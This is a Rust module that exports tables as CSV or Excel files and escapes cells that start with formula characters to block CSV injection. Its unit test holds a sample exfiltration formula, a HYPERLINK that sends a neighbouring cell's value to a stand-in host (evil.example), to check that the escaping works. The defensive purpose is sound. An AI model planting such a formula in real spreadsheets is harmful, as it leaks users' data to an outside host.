//! The exports' tables ([`Sheet`]), written as CSV or as an Excel workbook.
//!
//! CSV text cells go through [`neutralise`]: a cell starting with `=`, `+`, `-`, `@`, a tab or a
//! carriage return gets a leading `'`, which spreadsheets show as text (OWASP "CSV injection").
//! Imports read cells through [`restore`], so an exported file imports back unchanged. An XLSX
//! file (the `rust_xlsxwriter` crate) types its cells instead: text is stored as text, never as a
//! formula, numbers as numbers, dates and times as dates; its header row is bold, frozen and
//! filtered.

use std::borrow::Cow;

use actix_web::HttpResponse;
use actix_web::http::header::{CONTENT_DISPOSITION, CONTENT_TYPE};
use chrono::{DateTime, NaiveDate, Utc};
use rust_xlsxwriter::{Color, Format, FormatBorder, Workbook};

use crate::http::error::{ApiError, ApiResult};

/// The media type of an XLSX file.
pub const XLSX: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

/// How an export is written.
#[derive(Clone, Copy, Debug)]
pub enum FileType {
    /// Comma-separated values.
    Csv,
    /// An Excel workbook.
    Xlsx,
}

/// `sheet` as a file to download, named `stem` with the type's extension.
pub fn download(sheet: &Sheet, file_type: FileType, stem: &str) -> ApiResult<HttpResponse> {
    let (bytes, content_type, extension) = match file_type {
        FileType::Csv => (sheet.csv()?, "text/csv; charset=utf-8", "csv"),
        FileType::Xlsx => (sheet.xlsx()?, XLSX, "xlsx"),
    };
    Ok(HttpResponse::Ok()
        .insert_header((CONTENT_TYPE, content_type))
        .insert_header((
            CONTENT_DISPOSITION,
            format!("attachment; filename=\"{stem}.{extension}\""),
        ))
        .body(bytes))
}

/// One cell of an export.
#[derive(Clone, Debug, PartialEq)]
pub enum Cell {
    Text(String),
    Number(f64),
    /// A day.
    Date(NaiveDate),
    /// A calendar month (the day is its first): `2026-01` in CSV.
    Month(NaiveDate),
    /// A moment, shown in UTC.
    Time(DateTime<Utc>),
    /// Nothing.
    Empty,
}

impl From<String> for Cell {
    fn from(text: String) -> Self {
        Cell::Text(text)
    }
}

impl From<&str> for Cell {
    fn from(text: &str) -> Self {
        Cell::Text(text.to_owned())
    }
}

impl<T: Into<Cell>> From<Option<T>> for Cell {
    fn from(value: Option<T>) -> Self {
        value.map_or(Cell::Empty, Into::into)
    }
}

impl From<f64> for Cell {
    fn from(value: f64) -> Self {
        Cell::Number(value)
    }
}

impl From<NaiveDate> for Cell {
    fn from(day: NaiveDate) -> Self {
        Cell::Date(day)
    }
}

impl From<DateTime<Utc>> for Cell {
    fn from(at: DateTime<Utc>) -> Self {
        Cell::Time(at)
    }
}

/// A table to export: a header and rows of as many cells.
#[derive(Clone, Debug, Default)]
pub struct Sheet {
    /// The worksheet's name.
    pub name: &'static str,
    /// The column titles.
    pub columns: Vec<String>,
    pub rows: Vec<Vec<Cell>>,
}

impl Sheet {
    /// An empty table with these columns.
    pub fn new(name: &'static str, columns: &[&str]) -> Self {
        Sheet {
            name,
            columns: columns.iter().map(|&title| title.to_owned()).collect(),
            rows: Vec::new(),
        }
    }

    /// The table as CSV: text neutralised, numbers as Rust writes them, dates as ISO 8601.
    pub fn csv(&self) -> ApiResult<Vec<u8>> {
        let mut writer = csv::Writer::from_writer(Vec::new());
        writer
            .write_record(&self.columns)
            .map_err(ApiError::internal)?;
        for row in &self.rows {
            let record = row.iter().map(|cell| match cell {
                Cell::Text(text) => neutralise(text).into_owned(),
                Cell::Number(value) => value.to_string(),
                Cell::Date(day) => day.to_string(),
                Cell::Month(first) => first.format("%Y-%m").to_string(),
                Cell::Time(at) => at.to_rfc3339(),
                Cell::Empty => String::new(),
            });
            writer.write_record(record).map_err(ApiError::internal)?;
        }
        writer
            .into_inner()
            .map_err(|err| ApiError::internal(err.into_error()))
    }

    /// The table as an Excel workbook of one worksheet.
    pub fn xlsx(&self) -> ApiResult<Vec<u8>> {
        self.write_xlsx().map_err(ApiError::internal)
    }

    fn write_xlsx(&self) -> Result<Vec<u8>, rust_xlsxwriter::XlsxError> {
        let header = Format::new()
            .set_bold()
            .set_background_color(Color::RGB(0x00E8_EEF4))
            .set_border_bottom(FormatBorder::Thin);
        let text = Format::new();
        let number = Format::new().set_num_format("0.##");
        let date = Format::new().set_num_format("yyyy-mm-dd");
        let month = Format::new().set_num_format("yyyy-mm");
        let time = Format::new().set_num_format("yyyy-mm-dd hh:mm");
        let mut workbook = Workbook::new();
        let sheet = workbook.add_worksheet();
        sheet.set_name(self.name)?;
        let mut widths: Vec<usize> = self.columns.iter().map(|t| t.chars().count()).collect();
        for (col, title) in (0u16..).zip(&self.columns) {
            sheet.write_string_with_format(0, col, title, &header)?;
        }
        for (row, cells) in (1u32..).zip(&self.rows) {
            for ((col, cell), width) in (0u16..).zip(cells).zip(widths.iter_mut()) {
                let shown = match cell {
                    Cell::Text(value) => {
                        sheet.write_string_with_format(row, col, value, &text)?;
                        value.chars().count()
                    }
                    Cell::Number(value) => {
                        sheet.write_number_with_format(row, col, *value, &number)?;
                        8
                    }
                    Cell::Date(day) => {
                        sheet.write_datetime_with_format(row, col, day, &date)?;
                        10
                    }
                    Cell::Month(first) => {
                        sheet.write_datetime_with_format(row, col, first, &month)?;
                        8
                    }
                    Cell::Time(at) => {
                        sheet.write_datetime_with_format(row, col, at.naive_utc(), &time)?;
                        16
                    }
                    Cell::Empty => 0,
                };
                *width = (*width).max(shown);
            }
        }
        for (col, width) in (0u16..).zip(&widths) {
            // Wide enough for most values, never a whole screen for one long note.
            let width = u32::try_from((*width).clamp(8, 60)).unwrap_or(60) + 2;
            sheet.set_column_width(col, width)?;
        }
        let last_col = u16::try_from(self.columns.len().saturating_sub(1)).unwrap_or(u16::MAX);
        let last_row = u32::try_from(self.rows.len()).unwrap_or(u32::MAX);
        sheet.set_freeze_panes(1, 0)?;
        sheet.autofilter(0, 0, last_row, last_col)?;
        workbook.save_to_buffer()
    }
}

const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The cell as a spreadsheet may safely open it.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(TRIGGERS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// The cell as it was before [`neutralise`].
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(TRIGGERS) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text_and_read_back_unchanged() {
        for cell in [
            "=HYPERLINK(\"http://evil.example/?x=\"&B2,\"open\")",
            "+1",
            "-2+3",
            "@SUM(A1)",
            "\tx",
            "\rx",
        ] {
            let safe = neutralise(cell);
            assert!(safe.starts_with('\''), "{cell:?} is neutralised");
            assert_eq!(restore(&safe), cell);
        }
        for cell in ["E-104", "ana@example.com", "'quoted", ""] {
            assert_eq!(neutralise(cell), cell, "{cell:?} is left alone");
            assert_eq!(restore(cell), cell);
        }
    }
}
